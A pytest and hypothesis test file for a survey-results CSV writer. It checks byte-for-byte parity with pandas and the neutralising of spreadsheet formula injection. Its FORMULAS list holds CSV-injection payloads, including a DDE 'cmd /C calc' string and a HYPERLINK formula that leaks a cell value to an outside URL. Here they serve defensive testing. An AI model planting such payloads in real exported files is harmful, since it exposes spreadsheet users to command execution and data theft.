"""The one CSV dialect of results/: the fast writer of text tables gives pandas' bytes."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from likertflow.files import (
    _text_and_integers,
    float_text,
    read_csv,
    restore_cell,
    restore_text_array,
    safe_cell,
    safe_text_array,
    survey_of,
    write_csv,
    write_csv_pieces,
)

# Characters the csv module quotes for, or might (a lone carriage return), and others near them;
# those that begin a spreadsheet formula.
TRICKY = st.text(st.sampled_from(list(",\"\n\r \t';\\\x00aé€😀=+-@1＝")), max_size=6)
WORDS = st.sampled_from(
    ["", '""', "\r\n", "NA", "None", "nan", "1,2", 'say "hi"', "=1+1", "-0.5", "@SUM(A1)"]
)
TEXT = st.one_of(st.none(), TRICKY, WORDS, st.text(max_size=5))


def written(frame: pd.DataFrame, path) -> bytes:
    write_csv(frame, path)
    return path.read_bytes()


def by_pandas(frame: pd.DataFrame, path) -> bytes:
    """What ``to_csv`` writes of the frame once every text cell and name passed ``safe_cell``."""
    safe = frame.copy()
    safe.columns = [safe_cell(name) for name in frame.columns]
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if not pd.api.types.is_integer_dtype(column.dtype):
            safe.isetitem(position, column.map(safe_cell, na_action="ignore"))
    safe.to_csv(path, index=False, lineterminator="\n")
    return path.read_bytes()


@settings(max_examples=300, deadline=None)
@given(
    rows=st.lists(st.tuples(TEXT, TEXT, st.integers(-(2**63), 2**63 - 1)), max_size=8),
    storage=st.sampled_from(["pyarrow", "python"]),
    name=TRICKY,
)
def test_text_tables_are_written_as_pandas_writes_them(tmp_path_factory, rows, storage, name):
    """Quotes, commas, newlines, carriage returns, empty and missing texts, any integer, odd
    column names: the same bytes as ``to_csv``."""
    frame = pd.DataFrame(
        {
            f"id{name}": pd.array([r[0] for r in rows], dtype=pd.StringDtype(storage, np.nan)),
            "detail": pd.array([r[1] for r in rows], dtype=pd.StringDtype(storage)),
            "row": np.array([r[2] for r in rows], dtype=np.int64),
        }
    )
    assert _text_and_integers(frame)
    path = tmp_path_factory.mktemp("csv") / "table.csv"
    assert written(frame, path) == by_pandas(frame, path)


@settings(max_examples=200, deadline=None)
@given(rows=st.lists(st.tuples(st.integers(0, 9), TEXT, TEXT), min_size=1, max_size=8))
def test_a_table_that_ends_with_texts_is_written_as_pandas_writes_it(tmp_path_factory, rows):
    """As the ledger ends (reason, detail): the last field of a line quoted or not, a quote
    doubled in it, a line feed in it, or empty."""
    frame = pd.DataFrame(
        {
            "row": np.array([r[0] for r in rows], dtype=np.int64),
            "reason": pd.array([r[1] for r in rows], dtype="str"),
            "detail": pd.array([r[2] for r in rows], dtype="str"),
        }
    )
    path = tmp_path_factory.mktemp("csv") / "table.csv"
    assert written(frame, path) == by_pandas(frame, path)


def test_a_slice_of_a_long_table_in_chunks(tmp_path):
    """Arrow storage in several chunks, a frame that starts mid-way, unsigned integers."""
    texts = pd.array(["a,b", "c", 'd"e', "f\ng"] * 5000, dtype="str")
    frame = pd.DataFrame({"text": texts, "n": np.arange(20000, dtype=np.uint16)}).iloc[7:]
    frame = pd.concat([frame, frame.iloc[::-3]])
    assert written(frame, tmp_path / "t.csv") == by_pandas(frame, tmp_path / "t.csv")


@settings(max_examples=100, deadline=None)
@given(
    rows=st.lists(st.tuples(st.integers(0, 9), TEXT, TEXT), max_size=12),
    cuts=st.lists(st.integers(0, 12), max_size=4),
    floats=st.booleans(),
)
def test_a_table_written_in_pieces_is_the_table_written_whole(tmp_path_factory, rows, cuts, floats):
    """The ledger, written a batch at a time: one header, then each piece's lines, the same
    bytes as the whole table written at once, whether a piece is empty, first or last, and
    whether its columns are written by the fast route or by pandas (a float column)."""
    frame = pd.DataFrame(
        {
            "row": np.array([r[0] for r in rows], dtype=np.float64 if floats else np.int64),
            "=reason": pd.array([r[1] for r in rows], dtype="str"),
            "detail": pd.array([r[2] for r in rows], dtype="str"),
        }
    )
    bounds = [0, *sorted(min(cut, len(frame)) for cut in cuts), len(frame)]
    pieces = [frame.iloc[start:stop] for start, stop in zip(bounds, bounds[1:], strict=False)]
    folder = tmp_path_factory.mktemp("csv")
    write_csv_pieces(iter(pieces), folder / "pieces.csv")
    assert (folder / "pieces.csv").read_bytes() == written(frame, folder / "whole.csv")


def test_other_tables_are_left_to_pandas(tmp_path):
    """Floats, nullable integers, a lone column: written by pandas itself."""
    for frame in (
        pd.DataFrame({"a": ["x"], "b": [1.5]}),
        pd.DataFrame({"a": ["x"], "b": pd.array([None], dtype="Int64")}),
        pd.DataFrame({"a": pd.array([""], dtype="str")}),
        pd.DataFrame({"@a": [0.5], "=b": ["x"]}),  # its names neutralised too
    ):
        assert not _text_and_integers(frame)
        assert written(frame, tmp_path / "t.csv") == by_pandas(frame, tmp_path / "t.csv")


# --- No live formulas ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "- Not applicable",
    "'=already quoted",
]
NUMBERS = ["-0.25", "+3", "1e-05", "-1E+10", "-inf", "nan", " -7 ", "12"]
PLAIN = ["Strongly agree", "'Tis", "a=b", "R_1", "", "*"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_texts_are_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [*NUMBERS, *PLAIN, -3, 2.5, None])
def test_numbers_and_other_texts_are_left_as_they_are(value):
    assert safe_cell(value) == value or (value is None and safe_cell(value) is None)
    assert restore_cell(safe_cell(value)) == value or value is None


@settings(max_examples=500, deadline=None)
@given(text=st.text(st.sampled_from(list("'= -+@\t\r\n1.eE＝a")), max_size=6))
def test_neutralising_is_reversible_and_arrow_agrees_with_python(text):
    import pyarrow as pa

    safe = safe_cell(text)
    assert restore_cell(safe) == text
    column = pa.chunked_array([pa.array([text], pa.large_string())])
    assert safe_text_array(column).to_pylist() == [safe]
    assert restore_text_array(safe_text_array(column)).to_pylist() == [text]


def is_live_formula(cell: str) -> bool:
    """Whether a spreadsheet would read this CSV cell as a formula: it begins (after spaces) with
    = + - @ (or their full-width forms), a tab or a line break, and is not a number."""
    start = cell.lstrip(" ")[:1]
    if start not in set("=+-@\t\r\n＝＋－＠") or not start:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("fast", [True, False])
def test_no_table_cell_or_column_name_begins_a_formula(tmp_path, fast):
    """Both writers (text and integer tables, and pandas for the rest) neutralise every text
    cell and column name, keep numbers as numbers, and ``read_csv`` gives the texts back. (A
    lone carriage return is left out: the csv module, and so pandas, writes it unquoted.)"""
    texts = [text for text in [*FORMULAS, *NUMBERS, *PLAIN] if not text.startswith("\r")]
    frame = pd.DataFrame(
        {"=label": pd.array(texts, dtype="str"), "n": np.arange(len(texts), dtype=np.int64)}
    )
    if not fast:
        frame["x"] = -np.linspace(0, 1, len(texts))  # a float column: pandas writes it
    assert _text_and_integers(frame) == fast
    path = tmp_path / "table.csv"
    write_csv(frame, path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][:2] == ["'=label", "n"]
    assert [row[0] for row in rows[1:]] == [safe_cell(text) for text in texts]
    live = [cell for row in rows for cell in row if is_live_formula(cell)]
    assert not live
    assert not is_live_formula("-0.5") and is_live_formula("=1") and is_live_formula(" -x")
    back = read_csv(path)
    assert back.columns[0] == "=label"
    assert back["=label"].fillna("").tolist() == texts


def test_a_formula_after_a_number_column_is_neutralised(tmp_path):
    """Pandas writes tables with floats: each text column is neutralised, wherever it stands."""
    frame = pd.DataFrame(
        {"p": [0.5, 0.25], "label": ["=1+1", None], "n": [1.5, 2.0], "note": ["ok", "@x"]}
    )
    write_csv(frame, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert text == "p,label,n,note\n0.5,'=1+1,1.5,ok\n0.25,,2.0,'@x\n"
    back = read_csv(tmp_path / "t.csv")
    assert back["label"].tolist()[0] == "=1+1" and np.isnan(back["label"].tolist()[1])
    assert back["note"].tolist() == ["ok", "@x"] and back["p"].tolist() == [0.5, 0.25]


def test_read_csv_takes_only_empty_cells_as_missing(tmp_path):
    (tmp_path / "t.csv").write_text("label,n\nNA,1\n,2\nNone,\n", encoding="utf-8")
    back = read_csv(tmp_path / "t.csv")
    assert back["label"].tolist()[0::2] == ["NA", "None"] and pd.isna(back["label"][1])
    assert back["n"].tolist()[:2] == [1.0, 2.0] and np.isnan(back["n"][2])


def test_restore_text_array_keeps_the_texts_that_were_not_neutralised():
    import pyarrow as pa

    column = pa.chunked_array([["'=x", "plain", "'Tis", ""]])
    assert restore_text_array(column).to_pylist() == ["=x", "plain", "'Tis", ""]


@pytest.mark.parametrize(
    ("value", "text"), [(0.1, "0.1"), (3, "3.0"), (np.float64(1e-7), "1e-07"), (1 / 3, repr(1 / 3))]
)
def test_float_text_is_what_write_csv_writes(value, text):
    assert float_text(value) == text


def test_the_survey_of_a_file_is_its_name_up_to_the_first_dot():
    assert survey_of("results/tables/patients.frequencies.csv") == "patients"
    assert survey_of("results/data/experts_2024.parquet") == "experts_2024"


def test_a_column_of_python_objects_is_neutralised_and_restored(tmp_path):
    """Published tables mix numbers and text (``*``) in object columns."""
    frame = pd.DataFrame({"p": [0.5, 0.25], "n": pd.Series(["=1+1", 3], dtype=object)})
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == "p,n\n0.5,'=1+1\n0.25,3\n"
    assert read_csv(tmp_path / "t.csv")["n"].tolist() == ["=1+1", "3"]


def test_a_text_column_in_arrow_chunks_an_empty_one_first_and_a_slice(tmp_path):
    """The fast writer reads Arrow's buffers: a chunk may be empty, and a slice's texts start
    past the start of its buffer."""
    import pyarrow as pa

    texts = pa.array(["zz", "=x", "b,c"], pa.large_string()).slice(1)
    column = pd.arrays.ArrowStringArray(pa.chunked_array([pa.array([], pa.large_string()), texts]))
    frame = pd.DataFrame({"a": column, "n": [1, 2]})
    assert _text_and_integers(frame)
    assert written(frame, tmp_path / "t.csv") == b'a,n\n\'=x,1\n"b,c",2\n'


def test_formulas_are_neutralised_in_every_chunk_of_an_arrow_column():
    """``safe_text_array`` takes a column as Arrow holds it: an empty chunk before the formulas
    is passed over, not the end of the column."""
    import pyarrow as pa

    def chunks(*parts):
        return pa.chunked_array([pa.array(part, pa.large_string()) for part in parts])

    safe = safe_text_array(chunks([], ["=1+1", "ok"], [], ["@SUM(A1)"]))
    assert safe.to_pylist() == ["'=1+1", "ok", "'@SUM(A1)"]
    assert safe.to_pylist() == [safe_cell(x) for x in ["=1+1", "ok", "@SUM(A1)"]]
    assert safe_text_array(chunks(["a"], [], ["+1+1"])).to_pylist() == ["a", "'+1+1"]


def test_a_float_format_is_the_one_pandas_applies(tmp_path):
    """``write_csv`` and ``write_csv_pieces`` with a float format other than the dialect's: the
    floats as ``to_csv`` writes them with it, in one piece or several."""
    frame = pd.DataFrame({"label": ["a", "=b", "c"], "p": [1 / 3, 0.5, 2e-7]})
    expected = by_pandas(frame, tmp_path / "pandas.csv")
    assert b"0.3333333333333333" in expected
    frame.assign(label=frame["label"].map(safe_cell)).to_csv(
        tmp_path / "pandas.csv", index=False, lineterminator="\n", float_format="%.3f"
    )
    expected = (tmp_path / "pandas.csv").read_bytes()
    assert expected == b"label,p\na,0.333\n'=b,0.500\nc,0.000\n"
    write_csv(frame, tmp_path / "whole.csv", float_format="%.3f")
    assert (tmp_path / "whole.csv").read_bytes() == expected
    write_csv_pieces([frame.iloc[:1], frame.iloc[1:]], tmp_path / "pieces.csv", "%.3f")
    assert (tmp_path / "pieces.csv").read_bytes() == expected


def test_texts_of_any_letters_are_written_as_pandas_writes_them(tmp_path):
    """Only the characters the csv module quotes for make the fast writer quote a field: every
    ASCII letter and digit, in texts and names, is written as ``to_csv`` writes it."""
    import string

    letters = string.ascii_letters + string.digits
    frame = pd.DataFrame(
        {
            letters: pd.array([letters, "X", "aXb", "x y", "Z,z"], dtype="str"),
            "row": np.arange(5, dtype=np.int64),
        }
    )
    assert _text_and_integers(frame)
    assert written(frame, tmp_path / "t.csv") == by_pandas(frame, tmp_path / "t.csv")


def test_the_bytes_of_a_slice_are_its_own_texts():
    """The fast writer's checks read a chunk's buffers: a slice's offsets and bytes are those
    of its own texts, not of the texts after it in the buffer."""
    import pyarrow as pa
    from likertflow.files import _first_bytes_in, _holds_any

    texts = pa.array(["x", "y", "a,b", "=c"], pa.large_string())
    head = pa.chunked_array([texts.slice(0, 2)])
    assert not _holds_any(head, ",")
    assert _holds_any(pa.chunked_array([texts.slice(1, 2)]), ",")
    assert not _first_bytes_in(head, "=")
    assert _first_bytes_in(pa.chunked_array([texts.slice(2)]), "=")


@pytest.mark.parametrize("dtype", [None, object, "str"])
def test_read_csv_restores_texts_of_any_dtype(tmp_path, dtype):
    """Texts and names read back as they were before ``safe_cell``, whether pandas reads them
    as its default text columns or as the dtype asked for (objects, as a caller may ask)."""
    frame = pd.DataFrame({"=name": ["=1+1", "plain"], "other": ["@a", "b"], "n": [1, 2]})
    write_csv(frame, tmp_path / "t.csv")
    back = read_csv(tmp_path / "t.csv", **({} if dtype is None else {"dtype": dtype}))
    assert list(back.columns) == ["=name", "other", "n"]
    assert back["=name"].tolist() == ["=1+1", "plain"]
    assert back["other"].tolist() == ["@a", "b"]
    assert back["n"].astype(int).tolist() == [1, 2]
